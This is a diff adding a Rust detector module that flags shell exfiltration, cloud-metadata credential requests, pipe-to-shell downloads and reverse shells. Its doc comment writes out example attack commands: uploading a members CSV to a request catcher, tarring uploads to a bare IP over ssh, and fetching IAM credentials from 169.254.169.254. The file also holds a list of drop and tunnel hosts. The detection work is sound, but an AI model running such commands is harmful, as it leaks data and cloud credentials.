@@ -1,0 +1,627 @@
+//! `shell/exfiltration`, `shell/remote_code`
+//!
+//! ## What it catches
+//! - Uploads by `curl` (`-d @file`, `--data-binary @-`, `-T`, `-F f=@file`), `wget --post-file`,
+//!   `nc`/`ncat`/`socat`/`telnet` fed from a pipe or file, `scp`/`rsync` to a remote host, and
+//!   `ssh host` fed from a pipe — judged by what is sent (secrets → `egress.secret`; dumps,
+//!   exports, archives → `data.export` and `egress.file_upload`) and where: the organisation's own
+//!   hosts (policy `organization`), private and loopback addresses pass; request catchers, paste
+//!   and file-drop sites, tunnels, bare public IPs and unknown hosts do not.
+//! - Requests to cloud metadata endpoints (169.254.169.254 in any spelling,
+//!   metadata.google.internal, fd00:ec2::254) → `credential.read`.
+//! - `curl … | sh`, `wget -O- … | bash`, `bash <(curl …)`, `eval "$(curl …)"` → `exec.remote_code`
+//!   (through the flow of downloaded content into a shell), and reverse shells (`nc -e /bin/sh`).
+//!
+//! ## Why it matters
+//! Data that leaves cannot be called back; downloaded code runs with the caller's rights.
+//!
+//! ## Blocks
+//! ```sh
+//! curl --data-binary @/srv/exports/members.csv https://hookb.in/x
+//! tar cz /srv/uploads | ssh guest@198.51.100.177 "cat > u.tgz"
+//! wget -qO- http://169.254.169.254/latest/meta-data/iam/security-credentials/role
+//! ```
+//!
+//! ## Passes
+//! ```sh
+//! curl -s https://api.github.com/repos/acme-corp/app/releases/latest
+//! curl -X POST https://api.acme-corp.com/v1/ping -d '{"id":1}'
+//! curl -LO https://go.dev/dl/go1.22.3.linux-amd64.tar.gz
+//! ```
+//!
+//! ## Known gaps
+//! Literal request bodies are not yet scanned for secrets (see the HTTP issue, #4).
+//!
+//! ## Intents
+//! `egress.secret`, `egress.file_upload`, `data.export`, `credential.read`, `exec.remote_code`
+
+use crate::analyze::Detector;
+use crate::fact::{Facts, Severity, Target};
+use crate::intent::Intent;
+
+use super::super::unwrap::shell_quote;
+use super::super::{nested, Flow, Invocation, ShellPolicy, ShellState};
+use super::credentials::flow_of_file;
+
+pub(crate) const DETECTOR: Detector = Detector {
+    id: "shell/exfiltration",
+    intents: &[Intent::EgressSecret, Intent::EgressFileUpload, Intent::DataExport, Intent::CredentialRead],
+    triggers: &["curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "scp", "rsync", "sftp", "ssh"],
+};
+
+pub(crate) const REMOTE_CODE_DETECTOR: Detector = Detector {
+    id: "shell/remote_code",
+    intents: &[Intent::ExecRemoteCode],
+    triggers: &["curl", "wget", "nc", "ncat", "socat", "fetch"],
+};
+
+/// Where a request goes.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum HostClass {
+    /// The organisation's own domains and hosts.
+    Organization,
+    /// Loopback and private addresses.
+    Internal,
+    /// A cloud instance-metadata endpoint.
+    Metadata,
+    /// Request catchers, paste and file-drop sites, tunnels.
+    Untrusted,
+    /// A public IP address with no name.
+    BareIp,
+    /// Any other public host.
+    Unknown,
+}
+
+/// Hosts whose purpose is receiving data from strangers.
+const UNTRUSTED_SUFFIXES: &[&str] = &[
+    "webhook.site",
+    "requestbin.com",
+    "requestbin.net",
+    "hookb.in",
+    "pipedream.net",
+    "pipedream.com",
+    "beeceptor.com",
+    "requestcatcher.com",
+    "ngrok.io",
+    "ngrok-free.app",
+    "ngrok.app",
+    "ngrok.dev",
+    "trycloudflare.com",
+    "serveo.net",
+    "loca.lt",
+    "localtunnel.me",
+    "pastebin.com",
+    "paste.ee",
+    "hastebin.com",
+    "ghostbin.com",
+    "dpaste.com",
+    "dpaste.org",
+    "termbin.com",
+    "paste.c-net.org",
+    "transfer.sh",
+    "file.io",
+    "0x0.st",
+    "oshi.at",
+    "temp.sh",
+    "bashupload.com",
+    "gofile.io",
+    "catbox.moe",
+    "anonfiles.com",
+    "interact.sh",
+    "oast.fun",
+    "oast.live",
+    "oast.me",
+    "oast.pro",
+    "oast.site",
+    "oast.online",
+    "burpcollaborator.net",
+    "canarytokens.com",
+    "discord.com/api/webhooks",
+    "ix.io",
+    "sprunge.us",
+];
+
+/// The host part of a URL or `user@host:path`.
+pub(crate) fn host_of(target: &str) -> String {
+    let t = target.trim();
+    let rest = match t.find("://") {
+        Some(i) => &t[i + 3..],
+        None => t,
+    };
+    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
+    let authority = authority.rsplit('@').next().unwrap_or(authority);
+    let host = if let Some(inner) = authority.strip_prefix('[') {
+        inner.split(']').next().unwrap_or("")
+    } else {
+        authority.split(':').next().unwrap_or("")
+    };
+    host.trim_end_matches('.').to_ascii_lowercase()
+}
+
+/// Classifies `host` (and, for webhooks on shared hosts, the whole URL).
+pub(crate) fn classify(host: &str, url: &str, policy: &ShellPolicy) -> HostClass {
+    if host.is_empty() {
+        return HostClass::Unknown;
+    }
+    if policy.org_hosts.iter().any(|g| g.matches(host)) {
+        return HostClass::Organization;
+    }
+    let url_lower = url.to_ascii_lowercase();
+    if UNTRUSTED_SUFFIXES.iter().any(|s| {
+        if s.contains('/') {
+            url_lower.contains(s)
+        } else {
+            host == *s || host.ends_with(&format!(".{s}"))
+        }
+    }) {
+        return HostClass::Untrusted;
+    }
+    if matches!(
+        host,
+        "metadata.google.internal" | "metadata" | "fd00:ec2::254" | "instance-data" | "instance-data.ec2.internal"
+    ) {
+        return HostClass::Metadata;
+    }
+    if let Some(ip) = parse_ipv4(host) {
+        return match ip {
+            [169, 254, 169, 254] | [169, 254, 170, 2] | [100, 100, 100, 200] => HostClass::Metadata,
+            [127, ..] | [10, ..] | [192, 168, ..] | [0, 0, 0, 0] => HostClass::Internal,
+            [172, b, ..] if (16..=31).contains(&b) => HostClass::Internal,
+            [169, 254, ..] => HostClass::Internal,
+            _ => HostClass::BareIp,
+        };
+    }
+    if host.contains(':') {
+        // IPv6: loopback, unique-local and link-local are internal; the IPv4-mapped metadata address is not.
+        if host.ends_with("169.254.169.254") || host.ends_with("a9fe:a9fe") {
+            return HostClass::Metadata;
+        }
+        return if host == "::1" || host.starts_with("fc") || host.starts_with("fd") || host.starts_with("fe80") {
+            HostClass::Internal
+        } else {
+            HostClass::BareIp
+        };
+    }
+    if host == "localhost" || host.ends_with(".localhost") || host.ends_with(".local") {
+        return HostClass::Internal;
+    }
+    HostClass::Unknown
+}
+
+/// Dotted, decimal (`2852039166`), hex (`0xa9fea9fe`) and octal-dotted IPv4 spellings.
+pub(crate) fn parse_ipv4(host: &str) -> Option<[u8; 4]> {
+    let num = |s: &str| -> Option<u64> {
+        if let Some(h) = s.strip_prefix("0x").or_else(|| s.strip_prefix("0X")) {
+            u64::from_str_radix(h, 16).ok()
+        } else if s.len() > 1 && s.starts_with('0') {
+            u64::from_str_radix(s, 8).ok()
+        } else {
+            s.parse().ok()
+        }
+    };
+    let parts: Vec<&str> = host.split('.').collect();
+    let value: u64 = match parts.as_slice() {
+        [one] => num(one)?,
+        [a, b, c, d] => {
+            let (a, b, c, d) = (num(a)?, num(b)?, num(c)?, num(d)?);
+            if a > 255 || b > 255 || c > 255 || d > 255 {
+                return None;
+            }
+            (a << 24) | (b << 16) | (c << 8) | d
+        }
+        _ => return None,
+    };
+    let v = u32::try_from(value).ok()?;
+    Some(v.to_be_bytes())
+}
+
+/// In a cluster of short options (`-sT`), the first one that takes a value, and what follows it
+/// in the same word.
+fn short_cluster<'a>(v: &'a str, with_value: &[&str]) -> Option<(&'static str, &'a str)> {
+    if !v.starts_with('-') || v.starts_with("--") || v.len() < 3 {
+        return None;
+    }
+    for (k, c) in v.char_indices().skip(1) {
+        let flag = format!("-{c}");
+        if let Some(known) = with_value.iter().find(|f| **f == flag) {
+            let known: &'static str = SHORT_FLAGS.iter().find(|s| *s == known).copied()?;
+            return Some((known, &v[k + c.len_utf8()..]));
+        }
+    }
+    None
+}
+
+/// curl's value-taking short options, as `'static` names for [`short_cluster`].
+const SHORT_FLAGS: &[&str] = &[
+    "-d", "-F", "-T", "-X", "-H", "-o", "-u", "-A", "-e", "-b", "-c", "-x", "-m", "-w", "-K", "-E", "-r", "-Y", "-y",
+    "-z", "-U",
+];
+
+/// Whether sending data to `class` leaves the organisation.
+fn leaves(class: HostClass) -> bool {
+    matches!(class, HostClass::Untrusted | HostClass::BareIp | HostClass::Unknown)
+}
+
+pub(crate) fn check(inv: &Invocation<'_>, name: &str, st: &mut ShellState<'_>, facts: &mut Facts) -> Flow {
+    match name {
+        "curl" => curl(inv, st, facts),
+        "wget" => wget(inv, st, facts),
+        "nc" | "ncat" | "netcat" | "telnet" | "socat" => {
+            let v = inv.values();
+            if v.iter().any(|a| {
+                *a == "-e" || *a == "-c" || a.starts_with("EXEC:") || a.starts_with("SYSTEM:") || a.contains(",exec:")
+            }) {
+                facts.push(inv.fact(
+                    Intent::ExecRemoteCode,
+                    Severity::Critical,
+                    REMOTE_CODE_DETECTOR.id,
+                    None,
+                    format!("`{name}` connects a shell to the network (a reverse shell)"),
+                ));
+            }
+            let listening = v.iter().any(|a| *a == "-l" || a.starts_with("TCP-LISTEN") || a.starts_with("-l"));
+            let host = if name == "socat" {
+                v.iter()
+                    .find_map(|a| a.strip_prefix("TCP:").or_else(|| a.strip_prefix("TCP4:")))
+                    .map(host_of)
+                    .unwrap_or_default()
+            } else {
+                v.iter().skip(1).find(|a| !a.starts_with('-')).map(|h| h.to_ascii_lowercase()).unwrap_or_default()
+            };
+            if !listening && !matches!(inv.stdin, Flow::Terminal) {
+                send(inv, &host, &host, inv.stdin.clone(), st.policy, facts);
+            }
+            Flow::Unknown
+        }
+        "scp" | "rsync" | "sftp" => {
+            let ops: Vec<&str> =
+                inv.args.iter().skip(1).map(|a| a.value.as_str()).filter(|a| !a.starts_with('-')).collect();
+            if let Some((dest, sources)) = ops.split_last() {
+                if let Some((remote, _)) = dest.split_once(':').filter(|(h, _)| !h.contains('/')) {
+                    let host = host_of(remote);
+                    for s in sources {
+                        send(inv, &host, dest, flow_of_path(s), st.policy, facts);
+                    }
+                }
+            }
+            Flow::Unknown
+        }
+        _ => Flow::Unknown,
+    }
+}
+
+/// Judges data `flow` going to `host`.
+fn send(inv: &Invocation<'_>, host: &str, url: &str, flow: Flow, policy: &ShellPolicy, facts: &mut Facts) {
+    let class = classify(host, url, policy);
+    if class == HostClass::Metadata {
+        return;
+    }
+    if !leaves(class) {
+        return;
+    }
+    let target = Some(Target { kind: "location", name: host.to_owned() });
+    let where_ = match class {
+        HostClass::Untrusted => format!("`{host}`, a request catcher, paste or file-drop service"),
+        HostClass::BareIp => format!("the bare IP address `{host}`"),
+        _ => format!("`{host}`, outside the organisation"),
+    };
+    match flow {
+        Flow::Secret(what) => facts.push(inv.fact(
+            Intent::EgressSecret,
+            Severity::Critical,
+            DETECTOR.id,
+            target,
+            format!("sends {what} to {where_}"),
+        )),
+        Flow::Data(what) => {
+            facts.push(inv.fact(
+                Intent::DataExport,
+                Severity::High,
+                DETECTOR.id,
+                target.clone(),
+                format!("sends {what} to {where_}"),
+            ));
+            facts.push(inv.fact(
+                Intent::EgressFileUpload,
+                Severity::High,
+                DETECTOR.id,
+                target,
+                format!("uploads {what} to {where_}"),
+            ));
+        }
+        Flow::Unknown | Flow::Remote(_) => {
+            let severity = if class == HostClass::Unknown { Severity::Medium } else { Severity::High };
+            facts.push(inv.fact(
+                Intent::EgressFileUpload,
+                severity,
+                DETECTOR.id,
+                target,
+                format!("uploads local content to {where_}"),
+            ));
+        }
+        Flow::Text(_) | Flow::Terminal => {}
+    }
+}
+
+/// What a local path holds, for an upload.
+fn flow_of_path(path: &str) -> Flow {
+    match flow_of_file(path) {
+        Flow::Unknown if path.ends_with('/') || !path.contains('.') => Flow::Data(format!("the directory `{path}`")),
+        Flow::Unknown => Flow::Data(format!("the file `{path}`")),
+        other => other,
+    }
+}
+
+fn metadata(inv: &Invocation<'_>, url: &str, facts: &mut Facts) {
+    facts.push(inv.fact(
+        Intent::CredentialRead,
+        Severity::High,
+        DETECTOR.id,
+        Some(Target { kind: "location", name: url.to_owned() }),
+        format!("requests `{url}`, a cloud metadata endpoint that hands out the machine's credentials"),
+    ));
+}
+
+fn curl(inv: &Invocation<'_>, st: &mut ShellState<'_>, facts: &mut Facts) -> Flow {
+    let with_value = [
+        "-d",
+        "--data",
+        "--data-ascii",
+        "--data-binary",
+        "--data-raw",
+        "--data-urlencode",
+        "--json",
+        "-F",
+        "--form",
+        "--form-string",
+        "-T",
+        "--upload-file",
+        "-X",
+        "--request",
+        "-H",
+        "--header",
+        "-o",
+        "--output",
+        "-u",
+        "--user",
+        "-A",
+        "--user-agent",
+        "-e",
+        "--referer",
+        "-b",
+        "--cookie",
+        "-c",
+        "--cookie-jar",
+        "-x",
+        "--proxy",
+        "-m",
+        "--max-time",
+        "--connect-timeout",
+        "-w",
+        "--write-out",
+        "-K",
+        "--config",
+        "--resolve",
+        "--cacert",
+        "--cert",
+        "--key",
+        "-E",
+        "-r",
+        "--range",
+        "--retry",
+        "-Y",
+        "-y",
+        "-z",
+        "--url",
+        "--interface",
+        "--limit-rate",
+        "-U",
+        "--proxy-user",
+        "--oauth2-bearer",
+        "--output-dir",
+        "--connect-to",
+    ];
+    let args = &inv.args;
+    let mut urls: Vec<String> = Vec::new();
+    let mut uploads: Vec<Flow> = Vec::new();
+    let mut to_file = false;
+    let mut i = 1;
+    while i < args.len() {
+        let a = &args[i];
+        let v = a.value.as_str();
+        let (flag, value, value_arg, step) = if with_value.contains(&v) {
+            (v, args.get(i + 1).map(|x| x.value.as_str()).unwrap_or(""), args.get(i + 1), 2)
+        } else if let Some((f, val)) = v.split_once('=').filter(|(f, _)| f.starts_with("--") && with_value.contains(f))
+        {
+            (f, val, Some(a), 1)
+        } else if let Some((flag, attached)) = short_cluster(v, &with_value) {
+            // `-sT -`, `-sd@file`: the first value-taking flag of a cluster takes the rest or the next word.
+            if attached.is_empty() {
+                (flag, args.get(i + 1).map(|x| x.value.as_str()).unwrap_or(""), args.get(i + 1), 2)
+            } else {
+                (flag, attached, Some(a), 1)
+            }
+        } else {
+            if v.starts_with('-') {
+                if v == "-O"
+                    || v == "--remote-name"
+                    || v == "--remote-name-all"
+                    || (v.starts_with('-') && !v.starts_with("--") && v.contains('O'))
+                {
+                    to_file = true;
+                }
+            } else {
+                urls.push(v.to_owned());
+            }
+            i += 1;
+            continue;
+        };
+        match flag {
+            "-d" | "--data" | "--data-ascii" | "--data-binary" | "--data-urlencode" | "--json" => {
+                if let Some(file) = value.strip_prefix('@') {
+                    uploads.push(if file == "-" { inv.stdin.clone() } else { flow_of_path(file) });
+                } else if let Some(arg) = value_arg.filter(|x| x.dynamic) {
+                    uploads
+                        .extend(inv.subst_flows.iter().filter(|(s, _)| arg.substs.contains(s)).map(|(_, f)| f.clone()));
+                }
+            }
+            "-F" | "--form" => {
+                if let Some((_, file)) = value.split_once("=@").or_else(|| value.split_once("=<")) {
+                    let file = file.split(';').next().unwrap_or(file);
+                    uploads.push(if file == "-" { inv.stdin.clone() } else { flow_of_path(file) });
+                }
+            }
+            "-T" | "--upload-file" => {
+                uploads.push(if value == "-" || value == "." { inv.stdin.clone() } else { flow_of_path(value) })
+            }
+            "-o" | "--output" | "--output-dir" => to_file = value != "-",
+            "--url" => urls.push(value.to_owned()),
+            _ => {}
+        }
+        i += step;
+    }
+    requests(inv, &urls, &uploads, !to_file, st, facts)
+}
+
+fn wget(inv: &Invocation<'_>, st: &mut ShellState<'_>, facts: &mut Facts) -> Flow {
+    let with_value = [
+        "-O",
+        "--output-document",
+        "-o",
+        "--output-file",
+        "--post-file",
+        "--body-file",
+        "--post-data",
+        "--body-data",
+        "--header",
+        "-U",
+        "--user-agent",
+        "-P",
+        "--directory-prefix",
+        "-e",
+        "--method",
+        "-t",
+        "--tries",
+        "-T",
+        "--timeout",
+    ];
+    let args = &inv.args;
+    let mut urls = Vec::new();
+    let mut uploads = Vec::new();
+    let mut to_stdout = false;
+    let mut i = 1;
+    while i < args.len() {
+        let v = args[i].value.as_str();
+        let next = args.get(i + 1).map(|a| a.value.as_str()).unwrap_or("");
+        if let Some((f, val)) = v.split_once('=').filter(|(f, _)| f.starts_with("--")) {
+            match f {
+                "--post-file" | "--body-file" => uploads.push(flow_of_path(val)),
+                "--output-document" => to_stdout = val == "-",
+                _ => {}
+            }
+            i += 1;
+            continue;
+        }
+        if with_value.contains(&v) {
+            match v {
+                "--post-file" | "--body-file" => uploads.push(flow_of_path(next)),
+                "-O" | "--output-document" => to_stdout = next == "-",
+                _ => {}
+            }
+            i += 2;
+            continue;
+        }
+        if v.starts_with('-') && !v.starts_with("--") {
+            // Combined short options: `-qO-`, `-qO -`.
+            if let Some(pos) = v.find('O') {
+                let attached = &v[pos + 1..];
+                if attached == "-" || (attached.is_empty() && next == "-") {
+                    to_stdout = true;
+                }
+                if attached.is_empty() {
+                    i += 1;
+                }
+            }
+        } else if !v.starts_with('-') {
+            urls.push(v.to_owned());
+        }
+        i += 1;
+    }
+    requests(inv, &urls, &uploads, to_stdout, st, facts)
+}
+
+/// Judges each request of a download tool; returns what it prints (the download, when it goes to
+/// standard output).
+fn requests(
+    inv: &Invocation<'_>,
+    urls: &[String],
+    uploads: &[Flow],
+    to_stdout: bool,
+    st: &ShellState<'_>,
+    facts: &mut Facts,
+) -> Flow {
+    for url in urls {
+        let host = host_of(url);
+        if classify(&host, url, st.policy) == HostClass::Metadata {
+            metadata(inv, url, facts);
+        }
+        for flow in uploads {
+            send(inv, &host, url, flow.clone(), st.policy, facts);
+        }
+    }
+    match (to_stdout, urls.first()) {
+        (true, Some(url)) => Flow::Remote(url.clone()),
+        _ => Flow::Unknown,
+    }
+}
+
+/// `ssh [options] destination [command…]`: the remote command is analysed; what is piped in goes
+/// to the destination.
+pub(crate) fn ssh(inv: Invocation<'_>, st: &mut ShellState<'_>, facts: &mut Facts) -> Flow {
+    let with_value = [
+        "-p", "-i", "-l", "-o", "-F", "-J", "-L", "-R", "-D", "-W", "-b", "-c", "-E", "-e", "-m", "-O", "-Q", "-S",
+        "-w", "-B", "-I",
+    ];
+    let mut i = 1;
+    while i < inv.args.len() && inv.args[i].value.starts_with('-') {
+        i += if with_value.contains(&inv.args[i].value.as_str()) { 2 } else { 1 };
+    }
+    let Some(dest) = inv.args.get(i) else { return Flow::Unknown };
+    let host = host_of(&dest.value);
+    if !matches!(inv.stdin, Flow::Terminal) {
+        send(&inv, &host, &dest.value, inv.stdin.clone(), st.policy, facts);
+    }
+    let remote: Vec<String> = inv.args[i + 1..]
+        .iter()
+        .map(|a| if inv.args.len() == i + 2 { a.value.clone() } else { shell_quote(&a.value) })
+        .collect();
+    if remote.is_empty() {
+        return Flow::Unknown;
+    }
+    nested(&remote.join(" "), inv.report, st, facts)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::glob::Glob;
+
+    #[test]
+    fn hosts_are_classified() {
+        let policy = ShellPolicy {
+            org_hosts: vec![Glob::new("acme-corp.com"), Glob::new("*.acme-corp.com"), Glob::new("*.acme.internal")],
+            ..ShellPolicy::default()
+        };
+        let c = |u: &str| classify(&host_of(u), u, &policy);
+        assert_eq!(c("https://api.acme-corp.com/v1"), HostClass::Organization);
+        assert_eq!(c("db-main.acme.internal:/x"), HostClass::Organization);
+        assert_eq!(c("https://webhook.site/abc"), HostClass::Untrusted);
+        assert_eq!(c("http://169.254.169.254/latest"), HostClass::Metadata);
+        assert_eq!(c("http://2852039166/latest"), HostClass::Metadata);
+        assert_eq!(c("http://0xa9fea9fe/"), HostClass::Metadata);
+        assert_eq!(c("http://[::ffff:169.254.169.254]/"), HostClass::Metadata);
+        assert_eq!(c("guest@198.51.100.177"), HostClass::BareIp);
+        assert_eq!(c("http://10.0.0.5:8080/"), HostClass::Internal);
+        assert_eq!(c("https://go.dev/dl/x"), HostClass::Unknown);
+    }
+}
